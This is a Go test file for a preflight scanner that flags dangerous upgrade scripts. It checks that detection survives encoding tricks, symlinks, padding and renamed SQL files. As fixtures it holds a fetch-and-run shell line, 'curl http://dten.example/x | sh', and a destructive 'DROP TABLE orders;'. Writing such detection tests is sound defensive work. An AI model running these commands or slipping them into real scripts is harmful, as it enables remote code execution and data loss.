package preflight

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"
	"time"

	"aftershock/upgrades/preflight/scripts"
)

// inspectDirectory gives the rules that are told of a directory's files, as "rule file".
func inspectDirectory(t *testing.T, files map[string]string, links map[string]string) (out []string) {
	t.Helper()
	dir := t.TempDir()
	for name, text := range files {
		if err := os.MkdirAll(filepath.Dir(filepath.Join(dir, name)), 0o700); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(filepath.Join(dir, name), []byte(text), 0o600); err != nil {
			t.Fatal(err)
		}
	}
	for name, to := range links {
		if err := os.Symlink(to, filepath.Join(dir, name)); err != nil {
			t.Fatal(err)
		}
	}
	r, err := Inspect(t.Context(), dir, Options{Now: time.Now(), Private: t.TempDir()})
	if err != nil {
		t.Fatal(err)
	}
	for _, f := range r.Findings {
		out = append(out, f.Rule+" "+f.Place.File)
	}
	return out
}

// Scripts are read whatever bytes they begin with, and what isn't read is told.
func TestScriptsThatHide(t *testing.T) {
	const evil = "#!/bin/sh\ncurl http://dten.example/x | sh\n"
	for name, c := range map[string]struct {
		file, text, want string
	}{
		"latin-1":          {"install.sh", "#!/bin/sh\n# caf\xe9\n" + evil, "scripts/remote-code install.sh"},
		"a byte order":     {"install", "\ufeff" + evil, "scripts/remote-code install"},
		"a program's mark": {"install.sh", "MZ=1\n" + evil + strings.Repeat("#", 80), "scripts/remote-code install.sh"},
		"zeros":            {"install.sh", "#!/bin/bash\n# \x00\n" + evil, "scripts/unreadable install.sh"},
		"large":            {"install.sh", evil + strings.Repeat("#", scripts.MaxText), "scripts/unreadable install.sh"},
		"large statements": {"x.sql", strings.Repeat("-- \n", 600_000) + "DROP TABLE orders;", "migrations/data-loss x.sql"},
	} {
		if got := inspectDirectory(t, map[string]string{c.file: c.text}, nil); !slices.Contains(got, c.want) {
			t.Errorf("%s: %v, want %s", name, got, c.want)
		}
	}
	if got := inspectDirectory(t, map[string]string{"doc/text": evil[10:]}, map[string]string{"install.sh": "doc/text"}); !slices.Contains(got, "scripts/remote-code install.sh") {
		t.Errorf("by a link: %v", got)
	}
	// Texts that are no scripts take no room from them.
	many := map[string]string{"zz.sh": evil}
	for n := range 70 {
		many[strings.Repeat("a", n+1)] = strings.Repeat("a\n", 1<<19)
	}
	if got := inspectDirectory(t, many, nil); !slices.Contains(got, "scripts/remote-code zz.sh") {
		t.Errorf("behind much text: %v", got)
	}
	for n := range 70 {
		many[strings.Repeat("a", n+1)] = "#!/bin/sh\n" + strings.Repeat("#\n", 1<<19-10)
	}
	if got := inspectDirectory(t, many, nil); !slices.Contains(got, "scripts/unreadable "+strings.Repeat("a", 65)) {
		t.Errorf("behind many scripts: %v", got)
	}
}

// Statements that a script hands to a client are read, whatever their file is called.
func TestStatementsThatHide(t *testing.T) {
	const drop = "DROP TABLE orders;"
	files := map[string]string{"install.sh": "#!/bin/sh\nset -e\npsql -f data.txt\npsql -f rollback.sql\n", "rollback.sh": "#!/bin/sh\nset -e\npsql -f x.down.sql\n", "data.txt": drop, "rollback.sql": drop, "x.down.sql": drop}
	got := inspectDirectory(t, files, nil)
	for file, want := range map[string]bool{"data.txt": true, "rollback.sql": true, "x.down.sql": false} {
		if slices.Contains(got, "migrations/data-loss "+file) != want {
			t.Errorf("%s: %v in %v, want %v", file, !want, got, want)
		}
	}
}
